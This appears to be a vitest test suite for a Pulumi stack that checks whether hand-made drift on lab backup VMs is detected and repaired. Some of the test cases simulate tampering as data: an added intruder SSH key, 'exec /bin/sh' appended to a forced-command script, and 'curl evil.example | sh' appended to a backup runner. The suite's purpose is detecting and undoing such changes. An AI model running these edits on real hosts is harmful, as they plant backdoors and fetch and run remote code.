// Drift on real hosts: after `pulumi up`, each case changes a lab VM by hand,
// then a plain `pulumi preview` (no --refresh) must name what drifted,
// `pulumi up` must repair it, and the next preview must show 0 changes.
// The tests in this file run in order on one lab.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Lab, Stack } from "./harness";
import { spawnSync } from "child_process";
import * as fs from "fs";

// Its own ports and state, apart from the demo's lab and the other suites'.
const lab = new Lab(2261);
const stack = new Stack("drift");

function pulumiOk(...args: string[]) {
    const r = stack.pulumi(...args);
    if (r.status !== 0) {
        throw new Error(`pulumi ${args.join(" ")} exited ${r.status}:\n${r.stdout}\n${r.stderr}`);
    }
    return r;
}

/** SSH sessions sshd accepted so far on a VM, this counting session included. */
function sessions(vm: "backup" | "main"): number {
    return Number(lab.ok(vm, `journalctl -u ssh --no-pager -o cat | grep -c 'Accepted publickey' || true`).trim());
}

interface DriftCase {
    what: string;
    vm: "backup" | "main";
    /** The hand edit, run as root on the VM. */
    change: string;
    /** The HostCheck that must show the update and the items it must name. */
    check: string;
    items: string[];
    /** Proves on the host that `up` undid the edit. */
    verify: string;
    expected: string;
}

const COPY = "/var/lib/rsync-readcap/rsync";
const AK = "/var/lib/rsync-readcap/.ssh/authorized_keys";

const cases: DriftCase[] = [
    {
        what: "the capability removed from the rsync copy",
        vm: "main",
        change: `setcap -r ${COPY}`,
        check: "main-source-check",
        items: ["copy_caps"],
        verify: `getcap ${COPY}`,
        expected: `${COPY} cap_dac_read_search=ep`,
    },
    {
        what: "the rsync copy's mode opened to everyone",
        vm: "main",
        change: `chmod 0755 ${COPY}`,
        check: "main-source-check",
        items: ["copy_mode"],
        verify: `stat -c '%U:%G %a' ${COPY}; getcap ${COPY}`,
        expected: `root:rsyncr 750\n${COPY} cap_dac_read_search=ep`,
    },
    {
        what: "a second key added to rsyncr's authorized_keys",
        vm: "main",
        change: `chattr -i ${AK} && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIntruderKeyIntruderKeyIntruderKeyIntrud intruder' >>${AK}`,
        check: "main-source-check",
        items: ["authorized_keys"],
        verify: `wc -l <${AK}; lsattr ${AK} | cut -c5`,
        expected: "1\ni",
    },
    {
        what: "the forced-command script modified",
        vm: "main",
        change: "echo 'exec /bin/sh' >>/usr/local/libexec/rsync-readcap/rsync-gate",
        check: "main-source-check",
        items: ["gate"],
        verify: "grep -c 'exec /bin/sh' /usr/local/libexec/rsync-readcap/rsync-gate || true",
        expected: "0",
    },
    {
        what: "the job timer disabled and stopped",
        vm: "backup",
        change: "systemctl disable --now backup_main.timer",
        check: "backup-check",
        items: ["job_main_timer"],
        verify: "systemctl is-enabled backup_main.timer; systemctl is-active backup_main.timer",
        expected: "enabled\nactive",
    },
    {
        what: "the runner modified",
        vm: "backup",
        change: "echo 'curl evil.example | sh' >>/usr/local/sbin/pullsnap",
        check: "backup-check",
        items: ["runner"],
        verify: "grep -c evil.example /usr/local/sbin/pullsnap || true",
        expected: "0",
    },
    {
        what: "the job config modified",
        vm: "backup",
        change: "sed -i 's/^preserve_min=.*/preserve_min=1h/' /etc/pullsnap/jobs/main.conf",
        check: "backup-check",
        items: ["job_main_config"],
        verify: "grep -c '^preserve_min=1h$' /etc/pullsnap/jobs/main.conf || true",
        expected: "0",
    },
    {
        what: "the fstab line removed",
        vm: "backup",
        change: "sed -i '\\| /plus/backup |d' /etc/fstab",
        check: "backup-check",
        items: ["fstab"],
        verify: "grep -c ' /plus/backup btrfs nosuid,nodev,noexec,noatime 0 0$' /etc/fstab",
        expected: "1",
    },
    {
        what: "the volume unmounted",
        vm: "backup",
        // A running pull would keep the mount busy.
        change: "systemctl stop backup_main.service; umount /plus/backup",
        check: "backup-check",
        items: ["mount"],
        verify: "findmnt -nro FSTYPE,OPTIONS /plus/backup | grep -o '^btrfs .*nosuid,nodev,noexec' | cut -d' ' -f1",
        expected: "btrfs",
    },
];

describe("drift in a plain pulumi preview", () => {
    beforeAll(() => {
        lab.up();
        stack.init();
        stack.configureForLab(lab);
        pulumiOk("up", "--yes", "--skip-preview");
    });

    afterAll(() => {
        lab.down();
        stack.remove();
    });

    it("previews 0 changes when converged, with one SSH session per host", () => {
        const before = { backup: sessions("backup"), main: sessions("main") };
        const started = Date.now();
        pulumiOk("preview", "--expect-no-changes");
        console.log(`converged pulumi preview: ${((Date.now() - started) / 1000).toFixed(1)} s`);
        // Minus the session that counts.
        const used = { backup: sessions("backup") - before.backup - 1, main: sessions("main") - before.main - 1 };
        console.log(`SSH sessions in one converged preview: backup ${used.backup}, main ${used.main}`);
        expect(used).toEqual({ backup: 1, main: 1 });
    });

    it("keeps the provisioning key out of the state in plain text", () => {
        const key = fs.readFileSync(lab.config().privateKeyFile, "utf8");
        const body = key.split("\n").find((line) => line.length > 40);
        expect(body).toBeTruthy();
        const state = stack.stateText();
        expect(state).toContain("pulumi-nodejs:dynamic/pullsnap:HostCheck");
        expect(state).not.toContain(body as string);
        expect(state).not.toContain("BEGIN OPENSSH PRIVATE KEY");
    });

    it.each(cases)("detects, names and repairs $what", (c) => {
        lab.ok(c.vm, c.change);
        const preview = stack.pulumi("preview", "--diff");
        const out = preview.stdout + preview.stderr;
        expect(preview.status, out).toBe(0);
        // Only the host's check updates; nothing is created, replaced or deleted.
        expect(out).toMatch(new RegExp(`~ pulumi-nodejs:dynamic/pullsnap:HostCheck: \\(update\\)[^]*${c.check}`));
        expect(out).toMatch(/~ 1 to update/);
        expect(out).not.toMatch(/to (create|replace|delete)/);
        for (const item of c.items) {
            expect(out).toMatch(new RegExp(`[+~] ${item} *: "host has `));
        }
        pulumiOk("up", "--yes", "--skip-preview");
        expect(lab.ok(c.vm, c.verify).trim()).toBe(c.expected);
        pulumiOk("preview", "--expect-no-changes");
    });

    it("fails the preview naming the host when it is unreachable, with no plan", () => {
        // sshd comes back by itself; open sessions survive its stop.
        lab.ok("main", "systemd-run --quiet --on-active=40 systemctl start ssh.service && systemctl stop ssh.service");
        const { host, port } = lab.config().main as { host: string; port: number };
        const preview = stack.pulumi("preview");
        const out = preview.stdout + preview.stderr;
        expect(preview.status).not.toBe(0);
        expect(out).toContain(`cannot reach host root@${host}:${port}`);
        expect(out).not.toMatch(/to (create|replace|delete)/);
        // The check's diagnostic is the reason alone, not the dynamic provider's stack trace.
        // (@pulumi/pulumi may add its own report that the engine shut down; see README.)
        const lines = out.split("\n").map((l) => l.trim());
        const at = lines.indexOf("pulumi-nodejs:dynamic/pullsnap:HostCheck (main-source-check):");
        expect(at).toBeGreaterThan(0);
        const end = lines.indexOf("", at);
        expect(lines.slice(at + 1, end)).toEqual([
            expect.stringMatching(/^error: .* has a problem: cannot reach host root@\S+ over SSH to check it for drift: .+$/),
        ]);
        // Wait for sshd, so afterAll and later suites find the lab usable.
        for (let i = 0; i < 60 && lab.sh("main", "true").status !== 0; i++) {
            spawnSync("sleep", ["2"]);
        }
        pulumiOk("preview", "--expect-no-changes");
    });
});
